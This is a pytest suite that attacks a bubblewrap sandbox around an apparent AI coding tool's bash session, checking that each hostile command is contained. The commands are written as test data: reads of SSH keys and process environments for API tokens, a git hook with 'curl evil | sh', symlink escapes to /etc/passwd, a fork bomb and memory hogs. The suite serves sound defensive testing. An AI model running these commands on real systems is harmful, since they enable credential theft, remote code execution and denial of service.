"""Every attack of issue 3's "Bad input and attacks" list, against the real bubblewrap. After each one the same
session's shell must still answer."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from coder.config.layers import settings
from coder.store.outputs import load_output
from coder.tools.base import ToolContext
from coder.tools.bash.tool import BashTool
from coder.tools.registry import load_contracts


def _need_bwrap() -> None:
    assert shutil.which("bwrap"), "bubblewrap is missing: apt-get install bubblewrap"


class Session:
    """A bash tool with its context, as the engine would hold it."""

    def __init__(self, workspace: Path, state: Path, sandbox: dict[str, Any] | None = None) -> None:
        _need_bwrap()
        self.tool = BashTool(load_contracts()["bash"])
        self.ctx = ToolContext(workspace, workspace, "test", threading.Event(), state,
                               settings({"sandbox": dict(sandbox or {})}))

    def __call__(self, command: str, **extra: Any):
        return self.tool.run(self.tool.parse({"command": command, **extra}), self.ctx)

    def still_works(self) -> None:
        result = self("cd . && echo still-alive-$((6*7))")
        assert "still-alive-42" in result.output, result.output
        assert result.data["exit_code"] == 0

    def close(self) -> None:
        self.tool.close()


@pytest.fixture
def sh(git_repo: Path, tmp_path: Path):
    session = Session(git_repo, tmp_path / "state")
    yield session
    session.close()


def test_write_outside_workspace_is_refused(sh: Session, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    result = sh(f"echo pwned > {outside}; touch /usr/pwned; echo x > /etc/pwned; echo done")
    assert "Read-only file system" in result.output or "No such file" in result.output
    assert not outside.exists()
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists()
    # /tmp inside is private: a file written there never shows up on the host
    marker = f"coder-private-{os.getpid()}"
    assert sh(f"echo hi > /tmp/{marker} && cat /tmp/{marker}").output.strip() == "hi"
    assert not Path("/tmp", marker).exists()
    sh.still_works()


def test_home_and_ssh_keys_are_not_readable(sh: Session, isolated_home: Path) -> None:
    ssh = isolated_home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE KEY MATERIAL")
    (isolated_home / "notes.txt").write_text("host home secret")
    result = sh("cat ~/.ssh/id_ed25519; cat ~/notes.txt; ls -A ~; echo HOME=$HOME")
    assert "PRIVATE KEY MATERIAL" not in result.output
    assert "host home secret" not in result.output
    assert "No such file or directory" in result.output
    assert f"HOME={isolated_home}" in result.output
    sh.still_works()


def test_secrets_from_environment_and_proc_1_environ(git_repo: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-leak-1")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-leak-2")
    monkeypatch.setenv("MY_DB_PASSWORD", "leak-3")
    monkeypatch.setenv("HARMLESS_SETTING", "visible-4")
    # allow-listing a secret by mistake still keeps it out; allow-listing a plain variable lets it in
    session = Session(git_repo, tmp_path / "state",
                      {"env_allow": ["GITHUB_TOKEN", "MY_DB_PASSWORD", "HARMLESS_SETTING"]})
    try:
        result = session("env; tr '\\0' '\\n' < /proc/1/environ; for p in /proc/[0-9]*; do "
                         "tr '\\0' '\\n' < $p/environ 2>/dev/null; done")
        for leak in ("sk-ant-leak-1", "ghp-leak-2", "leak-3"):
            assert leak not in result.output
        assert "visible-4" in result.output
        session.still_works()
    finally:
        session.close()


class Listener:
    """A loopback listener that records who connected. `settled()` is exact, with no wait: a connection the
    sandbox made is established in the kernel before its command returns, so once the accepting thread has
    stopped, it is either counted or still in the backlog."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.05)
        self.port = self.server.getsockname()[1]
        self.hits: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:  # TimeoutError included
                continue
            self.hits.append("connected")
            conn.close()

    def settled(self) -> list[str]:
        self.stop.set()
        self.thread.join()
        self.server.setblocking(False)
        while True:
            try:
                conn, _ = self.server.accept()
            except BlockingIOError:
                return self.hits
            self.hits.append("connected")
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.server.close()


def _alive(pid: int) -> bool:
    """A process that runs (a zombie is dead, only not yet reaped)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (FileNotFoundError, ProcessLookupError):
        return False


def test_network_is_off(sh: Session) -> None:
    listener = Listener()
    try:
        result = sh(f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {listener.port}), 3)\"; "
                    f"(echo hi > /dev/tcp/127.0.0.1/{listener.port}) && echo CONNECTED")
        assert "Connection refused" in result.output or "Network is unreachable" in result.output
        assert "CONNECTED" not in result.output
        assert listener.settled() == []
        sh.still_works()
    finally:
        listener.close()


def test_network_on_when_config_allows(git_repo: Path, tmp_path: Path) -> None:
    """The positive control: the same probe connects when the config grants the network."""
    listener = Listener()
    session = Session(git_repo, tmp_path / "state", {"network": True})
    try:
        result = session(f"(echo hi > /dev/tcp/127.0.0.1/{listener.port}) && echo CONNECTED")
        assert "CONNECTED" in result.output
        assert listener.settled() == ["connected"]
    finally:
        listener.close()
        session.close()


def test_git_hooks_config_and_coder_dir_are_read_only(git_repo: Path, tmp_path: Path) -> None:
    (git_repo / ".coder").mkdir()
    (git_repo / ".coder" / "permissions.json").write_text('{"allow": []}\n')
    config_before = (git_repo / ".git" / "config").read_text()
    session = Session(git_repo, tmp_path / "state")
    try:
        result = session("printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; "
                         "git config alias.st '!touch /tmp/x'; echo '[core] fsmonitor = evil' >> .git/config; "
                         "echo '{\"allow\": [\"bash\"]}' > .coder/permissions.json; mkdir .git/hooks/x")
        assert "Read-only file system" in result.output
        assert not (git_repo / ".git" / "hooks" / "pre-commit").exists()
        assert (git_repo / ".git" / "config").read_text() == config_before
        assert (git_repo / ".coder" / "permissions.json").read_text() == '{"allow": []}\n'
        # the rest of the repository stays writable, git works
        result = session("echo change >> README.md && git status --short")
        assert "M README.md" in result.output
        session.still_works()
    finally:
        session.close()


def test_symlink_pointing_outside_does_not_escape(sh: Session, git_repo: Path, tmp_path: Path) -> None:
    passwd_before = Path("/etc/passwd").read_text()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("outside secret")
    (git_repo / "link").symlink_to(outside)
    (git_repo / "filelink").symlink_to(outside / "secret.txt")
    result = sh("cat link/secret.txt; cat filelink; echo overwritten > filelink; echo new > link/new.txt; "
                "ln -sf /etc/passwd mine && echo x >> mine")
    assert "outside secret" not in result.output
    assert (outside / "secret.txt").read_text() == "outside secret"
    assert not (outside / "new.txt").exists()
    assert Path("/etc/passwd").read_text() == passwd_before
    sh.still_works()


def test_cannot_kill_a_host_process(sh: Session) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    try:
        result = sh(f"kill -9 {victim.pid}; echo rc=$?; ps -e | wc -l")
        assert "rc=1" in result.output
        assert victim.poll() is None, "a process outside the sandbox was killed"
        sh.still_works()
    finally:
        victim.kill()
        victim.wait()


def test_fork_bomb_is_contained(git_repo: Path, tmp_path: Path) -> None:
    session = Session(git_repo, tmp_path / "state", {"nproc": 64})
    try:
        started = time.monotonic()
        result = session(":(){ :|:& };:", timeout=5)
        assert result.data["exit_code"] is not None or result.data["timed_out"]
        groups = session.ctx.services["shell"].cgroups
        if groups is not None and groups.pids_limited:
            pids_dir = next(d for d in groups.dirs if "pids" in d.parts or (d / "pids.current").exists())
            assert int((pids_dir / "pids.current").read_text()) <= 64
        else:  # without a pids cgroup only RLIMIT_NPROC contains it, and the kernel ignores that for root
            assert os.geteuid() != 0, "running as root without a writable pids cgroup: a fork bomb is not contained"
        deadline = time.monotonic() + 60  # generous: the machine may be loaded many times over
        while True:  # the bomb dies out against the limit; the shell answers again
            probe = session("echo still-alive-$((6*7))", timeout=30)
            if "still-alive-42" in probe.output or time.monotonic() > deadline:
                break
        assert "still-alive-42" in probe.output
        assert time.monotonic() - started < 120  # an uncontained bomb would not end at all
    finally:
        session.close()


def test_yes_without_end_is_cut(sh: Session) -> None:
    result = sh("yes", timeout=30)
    assert result.data["truncated"] is True
    assert "printed more than" in result.output
    assert result.data["timed_out"] is False
    sh.still_works()


def test_sleep_1000_times_out(sh: Session) -> None:
    started = time.monotonic()
    result = sh("sleep 1000", timeout=1)
    assert time.monotonic() - started < 60
    assert result.data["timed_out"] is True
    assert "timed out after 1s" in result.output
    sh.still_works()


def test_cat_dev_zero(sh: Session) -> None:
    result = sh("cat /dev/zero", timeout=30)
    assert "[binary output:" in result.output
    assert result.data["truncated"] is True
    sh.still_works()


def test_command_reading_stdin_gets_eof(sh: Session) -> None:
    started = time.monotonic()
    result = sh("read line; echo \"got:[$line]\"; cat; python3 -c 'import sys; print(len(sys.stdin.read()))'")
    assert "got:[]" in result.output and "0" in result.output
    assert time.monotonic() - started < 5
    sh.still_works()


def test_exit_restarts_the_shell_in_the_same_directory(sh: Session) -> None:
    sh("mkdir -p sub && cd sub && export GONE=1")
    result = sh("exit 3")
    assert result.data["exit_code"] == 3
    assert result.data["restarted"] is True
    assert "a new shell was started" in result.output
    after = sh("pwd; echo GONE=${GONE:-unset}")
    assert after.output.split() == [str(sh.ctx.workspace / "sub"), "GONE=unset"]
    sh.still_works()


def test_exec_bash_is_refused(sh: Session) -> None:
    result = sh("exec bash")
    assert "would replace the session's shell" in result.output
    assert result.data["exit_code"] == 126
    sh.still_works()


def test_kill_9_of_the_shell(sh: Session) -> None:
    result = sh("kill -9 $$")
    assert result.data["exit_code"] == 137
    assert result.data["restarted"] is True
    sh.still_works()


def test_ten_megabyte_single_line(sh: Session) -> None:
    result = sh("head -c 10000000 /dev/zero | tr '\\0' a", timeout=60)
    assert result.data["truncated"] is True
    handle = result.data["output_handle"]
    assert handle and handle in result.output
    assert len(result.output) < 40_000
    full = load_output(sh.ctx.state_dir, handle)
    assert full.count("a") == 10_000_000
    sh.still_works()


def test_binary_output(sh: Session) -> None:
    result = sh("head -c 4096 /dev/urandom")
    assert result.output.startswith("[binary output: 4096 bytes")
    sh.still_works()


def test_background_server_does_not_block_and_dies_with_session(git_repo: Path, tmp_path: Path) -> None:
    session = Session(git_repo, tmp_path / "state")
    result = session("sleep 300 & echo started")
    assert "started" in result.output
    shell = session.ctx.services["shell"]
    bwrap_pid = shell.child.pid
    session.still_works()
    from coder.sandbox.procs import descendants

    started = descendants(bwrap_pid)
    assert len(started) >= 3  # the sandbox's init, the shell and its background sleep
    session.close()
    deadline = time.monotonic() + 30  # killed by close(), gone once reaped: no fixed wait
    while (alive := [pid for pid in [bwrap_pid, *started] if _alive(pid)]) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert alive == [] and descendants(bwrap_pid) == []
    with pytest.raises(ProcessLookupError):
        os.kill(bwrap_pid, 0)


def test_no_capabilities_no_remount_no_nested_namespaces(sh: Session) -> None:
    result = sh("grep CapEff /proc/self/status; mount -o remount,rw /usr; echo remount=$?; "
                "unshare -U true; echo unshare=$?; touch /usr/x; echo touch=$?")
    assert "CapEff:\t0000000000000000" in result.output
    assert "remount=32" in result.output and "unshare=1" in result.output and "touch=1" in result.output
    sh.still_works()


def test_memory_and_file_size_limits(git_repo: Path, tmp_path: Path) -> None:
    session = Session(git_repo, tmp_path / "state", {"memory_mb": 100, "file_size_mb": 1})
    try:
        hog = session("python3 -c 'x = bytearray(400 * 1024 * 1024); print(\"allocated\", len(x))'", timeout=30)
        assert "allocated" not in hog.output, hog.output
        # MemoryError (rlimit) gives 1, the cgroup's OOM kill 137 (or a restarted shell when it chose bash)
        assert hog.data["exit_code"] != 0 or hog.data["restarted"], (hog.output, hog.data)
        big = session("head -c 5M /dev/zero > big.bin; echo rc=$?")
        assert "File too large" in big.output
        assert (git_repo / "big.bin").stat().st_size <= 1024 * 1024
        session.still_works()
    finally:
        session.close()


def test_git_dir_cannot_be_swapped_for_a_planted_one(git_repo: Path, tmp_path: Path) -> None:
    """Renaming .git away and creating a fresh one with a hook would run that hook at coder's next commit."""
    session = Session(git_repo, tmp_path / "state")
    try:
        result = session("mv .git .git-old; echo mv=$?; rm -rf .git; mkdir -p .coder/x; "
                         "echo '[sandbox]' > .coder/config.toml; ls -A")
        assert "mv=1" in result.output
        assert (git_repo / ".git" / "config").is_file() and not (git_repo / ".git-old").exists()
        assert (git_repo / ".coder").is_dir()  # created by coder, empty and read-only inside
        assert not (git_repo / ".coder" / "config.toml").exists() and not (git_repo / ".coder" / "x").exists()
        # `rm -rf .git` did delete objects and refs (the workspace is writable: a documented limit), but the
        # config and the hooks, what would run code outside, are still coder's
        assert (git_repo / ".git" / "hooks").is_dir()
        session.still_works()
    finally:
        session.close()


def test_git_file_of_a_worktree_is_read_only(git_repo: Path, tmp_path: Path) -> None:
    worktree = tmp_path / "wt"
    subprocess.run(["git", "worktree", "add", "-q", str(worktree)], cwd=git_repo, check=True)
    before = (worktree / ".git").read_text()
    session = Session(worktree, tmp_path / "state")
    try:
        result = session("echo 'gitdir: planted' > .git; echo rc=$?; git status --short; echo ok")
        assert "rc=1" in result.output
        assert (worktree / ".git").read_text() == before
        session.still_works()
    finally:
        session.close()
